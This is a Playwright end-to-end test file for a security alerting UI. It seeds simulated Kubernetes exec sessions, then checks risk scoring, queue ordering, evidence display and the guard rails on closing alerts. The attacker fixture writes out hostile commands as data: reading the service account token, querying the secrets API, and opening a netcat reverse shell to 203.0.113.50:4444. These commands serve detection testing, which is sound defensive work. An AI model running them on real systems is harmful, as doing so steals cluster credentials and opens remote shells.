import { randomUUID } from 'node:crypto';
import { expect, test, type BrowserContext, type Page } from '@playwright/test';
import { SeedClient } from '../support/api-client';
import { adminUser, analystUser, baseURL, ruleId } from '../support/env';
import { loginAs, snap, waitForRows } from '../support/session';

// What the shell did: this spec seeds one attacker session and one admin's routine session of its own, then
// follows an analyst from the queue (riskiest first) to the flyout and through the guard rails on closing.
test.describe.configure({ mode: 'serial' });

const cluster = 'e2e-risk-cluster';
const namespace = 'e2e-risk';

interface Command {
  name: string;
  executable: string;
  args: string[];
}

const sessions = {
  attacker: {
    pod: 'e2e-risk-web-7f9c',
    image: 'registry.example.com/shop/web',
    commands: [
      { name: 'cat', executable: '/bin/cat', args: ['cat', '/var/run/secrets/kubernetes.io/serviceaccount/token'] },
      {
        name: 'curl',
        executable: '/usr/bin/curl',
        args: ['curl', '-sk', '-H', 'Authorization: Bearer x', 'https://kubernetes.default.svc/api/v1/namespaces/default/secrets'],
      },
      { name: 'apt-get', executable: '/usr/bin/apt-get', args: ['apt-get', 'install', '-y', 'netcat-openbsd'] },
      { name: 'nc', executable: '/usr/bin/nc', args: ['nc', '203.0.113.50', '4444', '-e', '/bin/sh'] },
    ],
  },
  admin: {
    pod: 'e2e-risk-nginx-5d2a',
    image: 'registry.example.com/shop/nginx',
    commands: [
      { name: 'env', executable: '/usr/bin/env', args: ['env'] },
      { name: 'cat', executable: '/bin/cat', args: ['cat', '/etc/nginx/nginx.conf'] },
      { name: 'curl', executable: '/usr/bin/curl', args: ['curl', '-s', 'localhost:8080/healthz'] },
      { name: 'ps', executable: '/bin/ps', args: ['ps', 'aux'] },
    ],
  },
} as const satisfies Record<string, { pod: string; image: string; commands: readonly Command[] }>;
type Kind = keyof typeof sessions;
const kinds: readonly Kind[] = ['attacker', 'admin'];

interface AlertSummary {
  id: string;
  workflow_status: string;
  session: { risk_score: number; risk_level: string; behaviors: Array<{ id: string; title: string; technique_id: string; evidence: Array<{ entity_id: string | null }> }> } | null;
}

const alerts: Partial<Record<Kind, AlertSummary>> = {};
/** Entity ids of the attacker's commands, by process name. */
const attackerProcesses: Record<string, string> = {};
let context: BrowserContext;
let page: Page;

/** The events of one `kubectl exec -it <pod> -- bash` and the commands typed into it. */
function sessionEvents(kind: Kind, start: number, index: number): Array<Record<string, unknown>> {
  const s = sessions[kind];
  const iso = (t: number) => new Date(t).toISOString();
  const shellId = Buffer.from(`e2e-risk-${kind}-${start}`).toString('base64');
  const user = { id: '0', name: 'root' };
  const shell = { args: ['bash'], entity_id: shellId, executable: '/bin/bash', interactive: true, name: 'bash', pid: 52_000 + index * 100, start: iso(start), working_directory: '/', user };
  const common = {
    agent: { id: '7829f26d-c2d1-4eaf-a1ac-cd9cb9e12f75', type: 'cloud-defend', version: '8.16.0' },
    cloud_defend: { matched_selectors: ['allProcesses'], hook_point: ['tracepoint__sched_process_exec'] },
    container: { id: `e2e-risk-${kind}-${start.toString(36)}`, name: 'app', image: { name: s.image, tag: '1.4.2' } },
    data_stream: { dataset: 'cloud_defend.process', namespace: 'default', type: 'logs' },
    ecs: { version: '8.7.0' },
    host: { name: 'worker-e2e-risk-1', hostname: 'worker-e2e-risk-1', os: { type: 'linux' } },
    orchestrator: { cluster: { name: cluster }, namespace, resource: { name: s.pod, type: 'pod' } },
    user,
  };
  const event = () => ({ action: 'exec', category: ['process'], type: ['start'], kind: 'event', module: 'cloud_defend', dataset: 'cloud_defend.process', id: randomUUID() });
  const leader = { ...shell, entry_meta: { type: 'container' } };
  const shellEvent = {
    ...common,
    '@timestamp': iso(start),
    event: event(),
    process: {
      ...shell,
      entry_leader: { ...leader, same_as_process: true },
      session_leader: { ...leader, same_as_process: true },
      group_leader: { ...shell, same_as_process: true },
      parent: { args: ['runc', 'init'], entity_id: Buffer.from(`runc-${shellId}`).toString('base64'), executable: '/usr/bin/runc', interactive: false, name: 'runc', pid: shell.pid - 1, start: iso(start - 120), user },
    },
  };
  // Each command a child of the shell, 20 s apart, in the same session (same entry leader).
  const children = s.commands.map((c, i) => {
    const t = start + (i + 1) * 20_000;
    const entityId = Buffer.from(`e2e-risk-${kind}-${start}-${i}-${c.name}`).toString('base64');
    if (kind === 'attacker') attackerProcesses[c.name] = entityId;
    return {
      ...common,
      '@timestamp': iso(t),
      event: event(),
      process: {
        ...c,
        entity_id: entityId,
        interactive: true,
        pid: shell.pid + i + 1,
        start: iso(t),
        working_directory: '/',
        user,
        parent: { args: shell.args, entity_id: shellId, executable: shell.executable, interactive: true, name: shell.name, pid: shell.pid, start: shell.start, user },
        entry_leader: { ...leader, same_as_process: false },
        session_leader: { ...leader, same_as_process: false },
        group_leader: { entity_id: entityId, executable: c.executable, interactive: true, name: c.name, pid: shell.pid + i + 1, start: iso(t), same_as_process: true },
      },
    };
  });
  return [shellEvent, ...children];
}

async function listAlerts(api: SeedClient, pod: string): Promise<AlertSummary[]> {
  const path = `/api/alerts?status=open,acknowledged,closed&field.orchestrator.resource.name=${encodeURIComponent(pod)}`;
  const { alerts: list } = (await api.request('GET', path)) as { alerts: AlertSummary[] }; // the list's documented shape, fields used here only
  return list;
}

interface Checklist {
  groups: Array<{ steps: Array<{ id: string; required: boolean; done: boolean }> }>;
}

test.beforeAll(async ({ browser }) => {
  const api = new SeedClient(baseURL, adminUser.username, adminUser.password);
  const now = Date.now();
  const events = [...sessionEvents('attacker', now - 9 * 60_000, 0), ...sessionEvents('admin', now - 8 * 60_000, 1)];
  await api.bulk(events.flatMap((e) => [JSON.stringify({ create: { _index: 'logs-cloud_defend.process-default' } }), JSON.stringify(e)]).join('\n') + '\n');
  // the execution record's documented shape, fields used here only
  const run = (await api.request('POST', `/api/rules/${ruleId}/_run`, { from: 'now-2h', to: 'now+5m' })) as { status: string; error: string | null };
  expect(run.status, run.error ?? '').not.toBe('failed');

  await expect
    .poll(async () => (await listAlerts(api, sessions.attacker.pod))[0]?.session?.risk_score ?? -1, { message: 'session risk of the attacker', timeout: 30_000 })
    .toBeGreaterThanOrEqual(75);
  await expect.poll(async () => (await listAlerts(api, sessions.admin.pod))[0]?.session?.risk_score ?? -1, { message: 'session risk of the admin', timeout: 30_000 }).toBeGreaterThanOrEqual(0);
  for (const kind of kinds) {
    const [alert] = await listAlerts(api, sessions[kind].pod);
    alerts[kind] = alert;
  }
  expect(alerts.admin?.session?.risk_score ?? 100).toBeLessThan(25);

  // The required investigation steps are done, so closing as benign positive is held back only by the session risk.
  for (const alert of Object.values(alerts)) {
    const checklist = (await api.request('GET', `/api/alerts/${alert.id}/checklist`)) as Checklist; // the checklist's documented shape
    for (const step of checklist.groups.flatMap((g) => g.steps)) {
      if (step.required && !step.done) await api.request('PUT', `/api/alerts/${alert.id}/checklist/${encodeURIComponent(step.id)}`, { done: true });
    }
  }

  context = await browser.newContext();
  page = await context.newPage();
  await loginAs(page, analystUser, '/rules');
});

test.afterAll(async () => {
  await context.close();
});

function row(kind: Kind) {
  return page.locator(`[data-test-subj="alert-row"][data-alert-id="${alerts[kind]?.id ?? 'missing'}"]`);
}

const queue = `/alerts?namespace=${namespace}`;

test('the rules page warns about the audit feed and shows who ran the execs per cluster', async () => {
  const panel = page.getByTestId('audit-feed-panel');
  await expect(panel).toContainText('Who ran the exec: last 24 h');
  const ours = panel.locator(`[data-test-subj="audit-feed-cluster"][data-cluster="${cluster}"]`);
  await expect(ours).toBeVisible();
  await expect(ours.getByTestId('audit-feed-shares')).toContainText('exact 0%');
  await expect(ours.getByTestId('audit-feed-last-event')).toHaveText('never');
  const banner = page.getByTestId('audit-feed-banner');
  await expect(banner).toBeVisible();
  await expect(banner.getByTestId('audit-feed-warning').first()).toBeVisible();
  await snap(page, 'session-risk-01-rules-audit-feed');
});

test('the default queue puts the attacker first, with its risk badge and behaviours', async () => {
  await page.goto(queue);
  await waitForRows(page);
  await expect(page.getByTestId('alert-row')).toHaveCount(2);
  // No sort in the URL: the riskiest session comes first.
  expect(new URL(page.url()).searchParams.has('sort')).toBe(false);
  await expect(page.getByTestId('alert-row').first()).toHaveAttribute('data-alert-id', alerts.attacker?.id ?? 'missing');
  await expect(page.getByRole('button', { name: 'Session risk', exact: true })).toBeVisible();
  const cell = row('attacker').getByTestId('session-risk');
  await expect(cell).toHaveAttribute('data-risk-level', 'critical');
  await expect(cell.getByTestId('session-risk-badge')).toContainText(String(alerts.attacker?.session?.risk_score));
  const top = alerts.attacker?.session?.behaviors[0]?.title ?? 'missing';
  await expect(cell.getByTestId('session-risk-behaviors')).toContainText(top);
  await expect(row('admin').getByTestId('session-risk')).toHaveAttribute('data-risk-level', 'low');
  await expect(page.getByTestId('audit-feed-banner')).toBeVisible();
  await snap(page, 'session-risk-02-queue');

  await cell.hover();
  const tooltip = page.getByRole('tooltip');
  await expect(tooltip).toContainText('T1528');
  await expect(tooltip).toContainText(`${top} (`);
  await expect(tooltip).toHaveCSS('opacity', '1');
  await snap(page, 'session-risk-03-queue-tooltip');
  await page.mouse.move(0, 0);

  // The banner is dismissed for this browser session, also after a reload.
  await page.getByTestId('audit-feed-banner').getByRole('button', { name: /dismiss/i }).click();
  await expect(page.getByTestId('audit-feed-banner')).toBeHidden();
  await page.reload();
  await waitForRows(page);
  await expect(page.getByTestId('audit-feed-banner')).toBeHidden();
});

test('"High risk only" keeps the attacker, and lives in the URL', async () => {
  await page.getByTestId('filter-high-risk').click();
  await expect(page).toHaveURL(/min_session_risk=50/);
  await expect(page.getByTestId('alert-row')).toHaveCount(1);
  await expect(row('attacker')).toBeVisible();
  await snap(page, 'session-risk-04-high-risk-only');
  await page.getByTestId('filter-high-risk').click();
  await expect(page).not.toHaveURL(/min_session_risk/);
  await expect(page.getByTestId('alert-row')).toHaveCount(2);
});

test('the flyout says what happened, with the evidence, and the score beside the severity', async () => {
  await row('attacker').getByTestId('alert-open').click();
  const flyout = page.getByTestId('alert-flyout');
  await expect(flyout).toBeVisible();
  await expect(flyout.getByTestId('alert-flyout-session-risk').getByTestId('session-risk-badge')).toHaveAttribute('data-risk-level', 'critical');
  const overview = flyout.getByTestId('what-happened');
  await expect(overview).toHaveAttribute('data-compact', 'true');
  const token = overview.locator('[data-test-subj="what-happened-behavior"][data-behavior-id="credential_access.service_account_token"]');
  await expect(token.getByTestId('what-happened-title')).toHaveText('Service account token read');
  await expect(token.getByTestId('what-happened-technique')).toHaveAttribute('href', 'https://attack.mitre.org/techniques/T1528/');
  await expect(token.getByTestId('what-happened-evidence')).toContainText('cat /var/run/secrets/kubernetes.io/serviceaccount/token');
  await expect(overview).toContainText('nc 203.0.113.50 4444 -e /bin/sh');
  await snap(page, 'session-risk-05-flyout-overview');

  await flyout.getByTestId('alert-flyout-tab-session').click();
  const full = flyout.getByTestId('what-happened');
  await expect(full).toHaveAttribute('data-compact', 'false');
  const behaviors = alerts.attacker?.session?.behaviors ?? [];
  const tree = flyout.getByTestId('session-view');
  await expect(tree.getByTestId('session-process')).toHaveCount(5);
  await snap(page, 'session-risk-06-session-tab');
  if (behaviors.length > 5) {
    // A short list above the tree; the rest on demand.
    await expect(full.getByTestId('what-happened-behavior')).toHaveCount(5);
    await full.getByTestId('what-happened-show-all').click();
  }
  await expect(full.getByTestId('what-happened-behavior')).toHaveCount(behaviors.length);
  for (const b of behaviors) {
    await expect(full.locator(`[data-test-subj="what-happened-behavior"][data-behavior-id="${b.id}"]`)).toContainText(b.technique_id);
  }
  await expect(full).toContainText('apt-get install -y netcat-openbsd');
  const cat = tree.locator(`[data-test-subj="session-process"][data-entity-id="${attackerProcesses.cat ?? 'missing'}"]`);
  await expect(cat.locator('[data-behavior-id="credential_access.service_account_token"]')).toContainText('Service account token read');
  const nc = tree.locator(`[data-test-subj="session-process"][data-entity-id="${attackerProcesses.nc ?? 'missing'}"]`);
  await expect(nc.getByTestId('session-process-behavior').first()).toBeVisible();
  await expect(tree.locator('[data-test-subj="session-process"][data-alert-process="true"]')).toHaveAttribute('data-behaviors', '0');
  await tree.scrollIntoViewIfNeeded();
  await snap(page, 'session-risk-07-session-tree');
});

test('closing the attacker as a false positive needs a comment saying why', async () => {
  await page.getByTestId('alert-status').click();
  await page.getByTestId('alert-status-closed').click();
  const modal = page.getByTestId('close-reason-modal');
  await modal.getByRole('radio', { name: 'False positive' }).check();
  await expect(modal.getByTestId('close-high-risk')).toContainText(`This session scored ${alerts.attacker?.session?.risk_score}:`);
  await expect(modal.getByTestId('close-high-risk')).toContainText('needs a comment saying why');
  await expect(modal.getByTestId('close-confirm')).toBeDisabled();
  await snap(page, 'session-risk-08-close-needs-comment');
  await modal.getByTestId('close-reason-text').fill('   ');
  await expect(modal.getByTestId('close-confirm')).toBeDisabled();
  await modal.getByRole('radio', { name: 'True positive' }).check();
  await expect(modal.getByTestId('close-high-risk')).toBeHidden();
  await expect(modal.getByTestId('close-confirm')).toBeEnabled();
  await modal.getByRole('button', { name: 'Cancel' }).click();
  await expect(modal).toBeHidden();
});

test('a view that missed the score sends the close, and shows the server\'s refusal', async () => {
  // The detail answers without the session, as it would before the first scoring: the server still refuses.
  const detail = `**/api/alerts/${alerts.attacker?.id ?? 'missing'}`;
  await page.route(detail, async (route) => {
    if (route.request().method() !== 'GET') return route.fallback();
    const response = await route.fetch();
    const body = (await response.json()) as Record<string, unknown>; // an alert detail: a JSON object
    await route.fulfill({ response, json: { ...body, session: null } });
  });
  await page.reload();
  const flyout = page.getByTestId('alert-flyout');
  await expect(flyout.getByTestId('alert-flyout-session-risk')).toContainText('not scored');
  await page.getByTestId('alert-status').click();
  await page.getByTestId('alert-status-closed').click();
  const modal = page.getByTestId('close-reason-modal');
  await modal.getByRole('radio', { name: 'False positive' }).check();
  await modal.getByTestId('close-confirm').click();
  await expect(modal.getByTestId('close-error')).toContainText(`This session scored ${alerts.attacker?.session?.risk_score}`);
  await expect(modal.getByTestId('close-error')).toContainText('needs a comment saying why');
  await snap(page, 'session-risk-09-close-refused-by-server');
  await modal.getByRole('button', { name: 'Cancel' }).click();
  await page.unroute(detail);
  await flyout.getByTestId('alert-flyout-close').click();
  await expect(flyout).toBeHidden();
  await expect(page.getByTestId('alert-row')).toHaveCount(2);
  await expect(row('attacker').getByTestId('session-risk')).toBeVisible();
});

test('a bulk close that takes in the attacker asks to confirm, names how many and why, then closes both', async () => {
  await page.goto(queue);
  await waitForRows(page);
  await expect(page.getByTestId('alert-row')).toHaveCount(2);
  await page.getByTestId('alerts-table').locator('thead input[type="checkbox"]').check();
  await expect(page.getByTestId('selected-count')).toHaveText('2 selected');
  await page.getByTestId('bulk-actions').click();
  await page.getByTestId('bulk-close').click();
  const closeModal = page.getByTestId('close-reason-modal');
  await closeModal.getByRole('radio', { name: 'Benign positive' }).check();
  await closeModal.getByTestId('close-confirm').click();

  const confirm = page.getByTestId('high-risk-confirm-modal');
  await expect(confirm).toBeVisible();
  await expect(closeModal).toBeHidden();
  await expect(confirm).toContainText('1 alert is a high-risk session');
  await expect(confirm.getByTestId('high-risk-confirm-message')).toContainText('1 of these alerts is a session of high risk');
  const top = alerts.attacker?.session?.behaviors[0]?.title ?? 'missing';
  await expect(confirm.getByTestId('high-risk-confirm-message')).toContainText(top);
  await expect(confirm.getByTestId('high-risk-confirm-behaviors')).toContainText(top);
  await expect(confirm.getByTestId('high-risk-confirm')).toBeDisabled();
  await snap(page, 'session-risk-10-bulk-confirm');

  await confirm.getByTestId('high-risk-confirm-comment').fill('Authorised penetration test, change CHG-4711; the tester used this pod.');
  await confirm.getByTestId('high-risk-confirm').click();
  await expect(confirm).toBeHidden();
  const toast = page.getByTestId('toast').filter({ hasText: 'Updated 2' });
  await expect(toast).toContainText('2 updated, 0 skipped');
  await expect(page.getByTestId('alerts-empty')).toBeVisible();
  await snap(page, 'session-risk-11-bulk-closed');

  const api = new SeedClient(baseURL, adminUser.username, adminUser.password);
  for (const kind of kinds) {
    const [alert] = await listAlerts(api, sessions[kind].pod);
    expect(alert?.workflow_status, kind).toBe('closed');
  }
});

test('the admin account and pipeline templates build on the Kubernetes identity, and say when there is none', async ({ browser }) => {
  const admin = await browser.newPage();
  await loginAs(admin, adminUser, `/alerts?status=any&namespace=${namespace}&alert=${alerts.attacker?.id ?? 'missing'}`);
  const flyout = admin.getByTestId('alert-flyout');
  await expect(flyout.getByTestId('what-happened')).toBeVisible();
  await flyout.getByTestId('add-exception').click();
  const editor = admin.getByTestId('exception-flyout');
  await editor.getByTestId('exception-template').selectOption('admin_account');
  const fields = editor.getByTestId('exception-condition-field');
  await expect(fields).toHaveCount(2);
  await expect(fields.first()).toHaveValue('kubernetes.audit.user.username');
  await expect(editor.getByTestId('exception-condition-value').first()).toHaveValue('');
  await expect(fields.nth(1)).toHaveValue('orchestrator.namespace');
  // This session matched no request in the audit log: the identity is left for the admin to fill in.
  await expect(editor.getByTestId('exception-template-hint')).toContainText('Kubernetes user left empty: this alert is not attributed exactly.');
  await snap(admin, 'session-risk-12-exception-admin-template');

  await editor.getByTestId('exception-template').selectOption('cicd_service_account');
  await expect(fields).toHaveCount(3);
  await expect(fields.nth(0)).toHaveValue('kubernetes.audit.user.username');
  await expect(fields.nth(1)).toHaveValue('orchestrator.namespace');
  await expect(fields.nth(2)).toHaveValue('container.image.name');
  await expect(editor.getByTestId('exception-template-hint')).toContainText('e.g. system:serviceaccount:ci:gitlab-runner');
  await editor.getByTestId('exception-cancel').click();
  await expect(editor).toBeHidden();
  await admin.close();
});
